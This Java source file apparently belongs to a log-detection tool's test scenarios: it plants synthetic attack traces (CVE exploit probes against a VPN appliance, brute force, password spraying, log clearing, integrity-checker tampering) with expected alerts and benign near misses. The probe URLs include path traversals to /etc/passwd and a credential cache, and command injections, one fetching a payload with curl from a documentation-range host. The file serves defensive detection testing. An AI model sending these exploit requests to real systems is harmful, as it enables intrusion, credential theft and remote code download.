package io.gatewatch.cli.scenario;

import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/**
 * The attack traces planted into a day of traffic at known times, each with the alerts it must
 * raise, and the near misses beside them that must raise none. Every address is in a
 * documentation range that the benign day never uses, so no benign line can add to a planted
 * group or a planted line to a benign one.
 *
 * <p>Thresholds as the built-in pack has them: brute force is more than 20 failed sign-ins per
 * account and address within an hour; spraying, more than 20 accounts failing from one address
 * within 15 minutes; a success after failures, a success of that account from that address after
 * such a burst, within the hour. A correlation fires once and restarts its window, so a burst of
 * 24 failures raises one alert, not four.
 */
public final class PlantedTraces {
    /**
     * An alert a planted trace must raise.
     *
     * @param rule the rule
     * @param trigger the event that raises it: for a single-event rule the matched event, for a
     *     correlation the one that completes it (the alert's time is its time)
     * @param group a correlation's {@code group-by} values; empty for a single-event rule
     */
    public record Expected(BuiltinRule rule, LogEvent trigger, Map<String, String> group) {}

    // The actors of the planted traces, all in documentation ranges.
    private static final String SCANNER = "203.0.113.45";
    private static final String SCANNER_V6 = "2001:db8:6c::45";
    private static final String BRUTE_FORCER = "192.0.2.77";
    private static final String SPRAYER = "198.51.100.23";
    private static final String ROGUE_ADMIN = "198.51.100.99";
    private static final String TOKEN_SESSION = "203.0.113.150";

    private static final String AD = "AD-Corp";
    /** Account names an attacker harvested (from a directory leak): the spraying targets. */
    private static final String[] HARVESTED = {"a.schneider", "b.keller", "c.vogel", "d.frank", "e.berger", "f.jung",
        "g.hahn", "h.roth", "i.beck", "j.lorenz", "k.baumann", "l.franke", "m.albrecht", "n.schuster", "o.simon",
        "p.ludwig", "q.boehm", "r.winter", "s.kraus", "t.martin", "u.kraemer", "v.vogt", "w.stein", "x.jaeger",
        "y.otto", "z.sommer", "a.gross", "b.seidel", "c.heinrich", "d.brandt", "e.haas", "f.schreiber"};

    private final Instant dayStart;
    private final List<LogEvent> events = new ArrayList<>();
    private final List<Expected> expected = new ArrayList<>();

    private PlantedTraces(Instant dayStart) {
        this.dayStart = dayStart;
    }

    /** The traces and near misses of the day that starts at {@code dayStart} (midnight UTC). */
    public static PlantedTraces plant(Instant dayStart) {
        PlantedTraces p = new PlantedTraces(dayStart);
        p.cveProbing("02:14:05");
        p.bruteForceThenSuccess("03:05:00");
        p.passwordSprayingAcrossNoon("11:52:00");
        p.logClearingAfterAdminLogin("21:40:00");
        p.tokenSessionAndIntegrityTampering("22:05:00");
        p.nearMisses();
        return p;
    }

    /** The planted events, in the order they happen (ties keep this order). */
    public List<LogEvent> events() {
        return List.copyOf(events);
    }

    /** The alerts they must raise, nothing more. */
    public List<Expected> expected() {
        return List.copyOf(expected);
    }

    // ---- 1. exploitation attempts ------------------------------------------------------------

    /**
     * A scanner reads the build, then tries the public exploits of 2019–2025 one after the other,
     * as unauthenticated requests (AUT31556) and connections not authenticated yet (AUT20920).
     */
    private void cveProbing(String at) {
        Instant t = at(at);
        Actor s = Actor.unauthenticated(SCANNER);
        t = probe(t, s, "/dana-na/nc/nc_gina_ver.txt", BuiltinRule.VERSION_FILE_PROBE);
        t = probe(t, s, "/dana-na/auth/url_admin/welcome.cgi?type=inter", BuiltinRule.CVE_2025_0282_VERSION_CHECK);
        // CVE-2019-11510: /etc/passwd, then the session cache holding cleartext credentials.
        t = probe(t, s, "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/",
                BuiltinRule.CVE_2019_11510);
        t = connection(t, s, "/dana-na/../dana/html5acc/guacamole/../../../../../../data/runtime/mtmp/lmdb/dataa/data.mdb?/dana/html5acc/guacamole/",
                BuiltinRule.CVE_2019_11510);
        // CVE-2021-22893: the File Share Browser, a planted web shell, the Collaboration web service.
        t = probe(t, s, "/dana/fb/smb/wfb.cgi?t=p&si=&ri=&v=1", BuiltinRule.CVE_2021_22893);
        t = probe(t, s, "/dana-na/auth/url_default/Secid_canceltoken.cgi?id=1", BuiltinRule.CVE_2021_22893);
        t = connection(t, s, "//dana-ws//namedusers", BuiltinRule.CVE_2021_22893);
        // CVE-2023-46805 authentication bypass, alone and chained with the CVE-2024-21887 injection.
        t = probe(t, s, "/api/v1/totp/user-backup-code/../../system/system-information", BuiltinRule.CVE_2023_46805_2024_21887);
        t = probe(t, s, "/api/v1/cav/client/status/../../admin/options", BuiltinRule.CVE_2023_46805_2024_21887);
        t = probe(t, s, "/api/v1/totp/user-backup-code/../../license/keys-status/%3bpython%20%2dc%20%27import%20socket%2csubprocess%27%3b",
                BuiltinRule.CVE_2023_46805_2024_21887);
        t = probe(t, s, "/api/v1/license/keys-status/;curl%20-s%20http://203.0.113.45/x%20-o%20/tmp/x",
                BuiltinRule.CVE_2023_46805_2024_21887);
        // CVE-2024-21893: the SAML SOAP endpoints.
        t = probe(t, s, "/dana-ws/saml20.ws", BuiltinRule.CVE_2024_21893);
        t = connection(t, s, "/dana-ws/samlecp.ws", BuiltinRule.CVE_2024_21893);
        // The SAML logout script followed by a path: that rule's alone, not also the generic traversal rule's.
        t = probe(t, s, "/dana-na/auth/saml-logout.cgi/../../dana-ws/saml20.ws", BuiltinRule.CVE_2024_21893);
        // Traversals no CVE rule recognises, one of them under a CVE rule's path: the generic rule's.
        t = probe(t, s, "/dana-cached/hc/../../../../../../etc/shadow", BuiltinRule.UNAUTHENTICATED_PATH_TRAVERSAL);
        probe(t, s, "/dana/html5acc/guacamole/..%5c..%5c..%5c..%5cetc%5cpasswd", BuiltinRule.UNAUTHENTICATED_PATH_TRAVERSAL);
        // A second scanner over IPv6, with the percent-encoded variant of the bypass.
        probe(at("02:31:40"), Actor.unauthenticated(SCANNER_V6),
                "/api/v1/totp/user-backup-code/..%2f..%2fsystem%2fmaintenance%2farchiving%2fcloud-server-test-connection",
                BuiltinRule.CVE_2023_46805_2024_21887);
    }

    private Instant probe(Instant t, Actor s, String url, BuiltinRule rule) {
        single(event(t, s, "AUT31556", "Unauthenticated request url " + url + " came from IP " + s.ip() + "."), rule);
        return t.plusSeconds(7);
    }

    private Instant connection(Instant t, Actor s, String url, BuiltinRule rule) {
        single(event(t, s, "AUT20920", "Connection from IP " + s.ip() + " not authenticated yet (URL=" + url + ")"), rule);
        return t.plusSeconds(7);
    }

    // ---- 2. brute force, then the password found ---------------------------------------------

    /**
     * 24 guesses on one account every 30 seconds (each logs the primary-authentication failure and
     * the counted "Login failed" line), then a sign-in with the password found, and a short session.
     */
    private void bruteForceThenSuccess(String at) {
        String user = "m.keller";
        Actor a = Actor.user(user, "Users", "", BRUTE_FORCER, "");
        Map<String, String> group = Map.of("user.name", user, "source.ip", BRUTE_FORCER);
        Instant t = at(at);
        for (int i = 1; i <= 24; i++) {
            LogEvent counted = failedSignIn(t, a);
            if (i == 21) {
                expected.add(new Expected(BuiltinRule.BRUTE_FORCE, counted, group));
            }
            t = t.plusSeconds(30);
        }
        t = t.plusSeconds(15);
        LogEvent success = event(t, a, "AUT24326", "Primary authentication successful for " + user + "/" + AD + " from " + BRUTE_FORCER);
        // The first success completes the correlation; the sign-in line a second later falls in the closed window.
        expected.add(new Expected(BuiltinRule.SUCCESS_AFTER_FAILURES, success, group));
        String agent = "python-requests/2.31.0";
        Actor in = Actor.user(user, "Users", "Users", BRUTE_FORCER, agent);
        event(t.plusSeconds(1), in, "AUT31504", "Login succeeded for " + user + "/Users (session:5e0c7a91) from "
                + BRUTE_FORCER + " with " + agent + ".");
        event(t.plusSeconds(20), in, "WEB20174", "WebRequest completed, GET to https://intranet.corp.example:443//index.html from "
                + BRUTE_FORCER + " result=200 sent=412 received=18234 in 0 seconds");
        event(t.plusSeconds(45), in, "WEB20169", "WebRequest ok : Host: hr.corp.example, Request: GET /payroll/export.csv HTTP/1.1");
        event(t.plusSeconds(300), in, "AUT22673", "Logout from " + BRUTE_FORCER + " (session:5e0c7a91)");
    }

    // ---- 3. password spraying ----------------------------------------------------------------

    /**
     * One password tried on 24 harvested accounts, one every 35 seconds: the 21st account fails at
     * 12:03:40, in the afternoon's file, so the count must carry over from the morning's.
     */
    private void passwordSprayingAcrossNoon(String at) {
        Instant t = at(at);
        for (int i = 1; i <= 24; i++) {
            LogEvent counted = failedSignIn(t, Actor.user(HARVESTED[i - 1], "Users", "", SPRAYER, ""));
            if (i == 21) {
                expected.add(new Expected(BuiltinRule.PASSWORD_SPRAYING, counted, Map.of("source.ip", SPRAYER)));
            }
            t = t.plusSeconds(35);
        }
    }

    // ---- 4. log clearing after an administrator's sign-in -------------------------------------

    /**
     * A stolen administrator account signs in from the Internet, turns off the logging of
     * administrator sign-ins, clears two logs and removes a syslog destination, then signs out.
     */
    private void logClearingAfterAdminLogin(String at) {
        Actor a = Actor.admin("pcsadmin", ROGUE_ADMIN);
        Instant t = at(at);
        single(event(t, a, "ADM22668", "Login succeeded for pcsadmin/" + Actor.ADMIN_REALM + " from " + ROGUE_ADMIN + "."),
                BuiltinRule.ADMIN_LOGIN_FROM_PUBLIC_ADDRESS);
        single(event(t.plusSeconds(70), a, "ADM20604", "Changed log event AdminLogin to Off"), BuiltinRule.LOG_EVENT_DISABLED);
        single(event(t.plusSeconds(150), a, "ADM20599", "Events log has been cleared."), BuiltinRule.LOG_CLEARED);
        single(event(t.plusSeconds(165), a, "ADM20599", "User Access log has been cleared."), BuiltinRule.LOG_CLEARED);
        single(event(t.plusSeconds(185), a, "ADM20601", "Syslog server 10.30.0.5 (facility LOCAL0, filter WELF) removed from Events logs"),
                BuiltinRule.SYSLOG_SERVER_REMOVED);
        event(t.plusSeconds(200), a, "ADM22671", "Logout from " + ROGUE_ADMIN);
    }

    // ---- 5. recovery-token session and integrity checker findings -----------------------------

    /**
     * Someone with console access creates a recovery token and opens a Super Admin session with
     * it; a web shell later makes the integrity checker report new and modified files, and the
     * checker is then tampered with so that a scan finds nothing at all.
     */
    private void tokenSessionAndIntegrityTampering(String at) {
        Instant t = at(at);
        single(event(t, Actor.system(), "ADM24511", "Authentication token is created for administrative logon recovery"),
                BuiltinRule.SUPER_ADMIN_TOKEN_SESSION);
        single(event(t.plusSeconds(40), Actor.console(TOKEN_SESSION), "ADM23452",
                "Super Admin session created using token 7f3c9e21 from " + TOKEN_SESSION), BuiltinRule.SUPER_ADMIN_TOKEN_SESSION);
        // The token session signing out is not flagged (only its creation is).
        event(t.plusSeconds(1_500), Actor.user("SuperAdmin-7f3c9e21", "", "", TOKEN_SESSION, ""), "AUT22673",
                "Logout from " + TOKEN_SESSION + " (session:00000000)");
        Instant ict = at("22:20:00");
        single(event(ict, Actor.system(), "SYS32040",
                "Integrity Checker Tool: Mismatched files detected in the system. Please run an external Integrity Check."),
                BuiltinRule.INTEGRITY_NEW_OR_MODIFIED_FILES);
        single(event(ict.plusSeconds(5), Actor.system(), "SYS32039",
                "Integrity Checker Tool: New files detected in the system. Please run an external Integrity Check."),
                BuiltinRule.INTEGRITY_NEW_OR_MODIFIED_FILES);
        single(event(ict.plusSeconds(250), Actor.system(), "SYS32100",
                "Integrity Scan Completed: Integrity Scan Results : Matched Files 18771, Newly Detected Files 1, Mismatched Files 2"),
                BuiltinRule.INTEGRITY_NEW_OR_MODIFIED_FILES);
        single(event(at("23:14:30"), Actor.system(), "SYS32100",
                "Integrity Scan Completed: Integrity Scan Results : Matched Files 0, Newly Detected Files 0, Mismatched Files 0"),
                BuiltinRule.INTEGRITY_CHECKER_BLINDED);
    }

    // ---- near misses: none of these may raise an alert ----------------------------------------

    private void nearMisses() {
        // Exactly 20 failures in 13 minutes (the threshold is more than 20), then the right password.
        Actor novak = Actor.user("a.novak", "Users", "", "192.0.2.88", "");
        Instant t = at("14:10:00");
        for (int i = 0; i < 20; i++) {
            failedSignIn(t, novak);
            t = t.plusSeconds(40);
        }
        event(t.plusSeconds(20), novak, "AUT24326", "Primary authentication successful for a.novak/" + AD + " from 192.0.2.88");
        event(t.plusSeconds(21), Actor.user("a.novak", "Users", "Users", "192.0.2.88", ""), "AUT31504",
                "Login succeeded for a.novak/Users (session:0d2b44e1) from 192.0.2.88.");

        // A service account retrying an expired password every 5 minutes for 3 hours: 36 failures,
        // never more than 12 in an hour.
        Actor sync = Actor.user("svc-sync", "Users", "", "192.0.2.89", "");
        t = at("13:00:00");
        for (int i = 0; i < 36; i++) {
            failedSignIn(t, sync);
            t = t.plusSeconds(300);
        }

        // 20 accounts failing from one address in 10 minutes, then 8 more half an hour later:
        // never more than 20 in 15 minutes.
        t = at("16:00:00");
        for (int i = 0; i < 28; i++) {
            failedSignIn(t, Actor.user(HARVESTED[i], "Users", "", "198.51.100.24", ""));
            t = t.plusSeconds(i == 19 ? 1_800 : 30);
        }

        // Unauthenticated requests to the appliance's own pages, close to the exploit paths.
        Actor visitor = Actor.unauthenticated("192.0.2.120");
        t = at("09:30:00");
        for (String url : new String[] {"/dana-na/auth/url_default/welcome.cgi?p=forced-off",
            "/dana/html5acc/guacamole/main.html", "//dana/html5acc/guacamole/main.html",
            "/dana-na/auth/url_admin/welcome.cgi", "/dana-na/auth/saml-logout.cgi?SAMLRequest=fZFBa8MwDIX",
            "/dana-na/auth/saml-consumer.cgi", "/api/v1/cav/client/status", "/api/v1/totp/user-backup-code",
            "/api/v1/license/keys-status/", "/dana-cached/setup/psaldownload.cgi",
            "/api/v1/configuration/users/user-roles/user-role", "/dana-na/css/ds.css"}) {
            event(t, visitor, "AUT31556", "Unauthenticated request url " + url + " came from IP 192.0.2.120.");
            t = t.plusSeconds(3);
        }
        event(t, visitor, "AUT20920", "Connection from IP 192.0.2.120 not authenticated yet (URL=/dana-na/auth/url_default/welcome.cgi)");

        // A signed-in user's web requests that resemble the web-access rules' targets.
        Actor user = Actor.user("l.petit", "Users", "Users", "192.0.2.121",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0");
        t = at("10:15:00");
        for (String request : new String[] {"Host: wiki.corp.example, Request: GET /docs/../images/logo.png HTTP/1.1",
            "Host: web.telegram.org, Request: GET /k/ HTTP/1.1",
            "Host: portswigger.net, Request: GET /burp/documentation/collaborator HTTP/1.1",
            "Host: mirror.corp.example, Request: GET /dana-na/nc/nc_gina_ver.txt HTTP/1.1",
            "Host: login.live.com, Request: GET /login.srf?wa=wsignin1.0 HTTP/1.1"}) {
            event(t, user, "WEB20169", "WebRequest ok : " + request);
            t = t.plusSeconds(11);
        }
        event(t, user, "WEB20174", "WebRequest completed, GET to https://intranet.corp.example:443//menu/toast.fun.html from "
                + "192.0.2.121 result=200 sent=512 received=18023 in 1 seconds");
        // Signed in again from the same address: the old session closes, which is no take-over.
        event(t.plusSeconds(600), user, "AUT23574", "l.petit/Users logged out from IP (192.0.2.121) because user started new "
                + "session from IP (192.0.2.121).");

        // Administration that looks like tampering and is not: a syslog server added, a log
        // category turned on, the appliance removing an expired guest account itself.
        Actor admin = Actor.admin("pcsadmin", "10.20.30.5");
        t = at("11:05:00");
        event(t, admin, "ADM20600", "Syslog server 10.30.0.6 (facility LOCAL0, filter WELF) added for Events logs");
        event(t.plusSeconds(30), admin, "ADM20603", "Changed log event AdminLogin to On");
        event(t.plusSeconds(90), Actor.system(), "ADM22862",
                "User Accounts modified. Removed username guest-4711 from authentication server System Local.");
    }

    // ---- helpers -------------------------------------------------------------------------------

    /** One wrong password: the primary-authentication failure, then the "Login failed" line the rules count. */
    private LogEvent failedSignIn(Instant t, Actor a) {
        event(t, a, "AUT24327", "Primary authentication failed for " + a.user() + "/" + AD + " from " + a.ip());
        return event(t, a, "AUT23457", "Login failed using auth server " + AD + " (Active Directory).  Reason: Failed");
    }

    private LogEvent event(Instant t, Actor a, String code, String text) {
        LogEvent e = new LogEvent(t, a, code, text);
        events.add(e);
        return e;
    }

    private void single(LogEvent e, BuiltinRule rule) {
        expected.add(new Expected(rule, e, Map.of()));
    }

    private Instant at(String hhmmss) {
        String[] p = hhmmss.split(":");
        return dayStart.plus(Duration.ofHours(Integer.parseInt(p[0])).plusMinutes(Integer.parseInt(p[1]))
                .plusSeconds(Integer.parseInt(p[2])));
    }
}
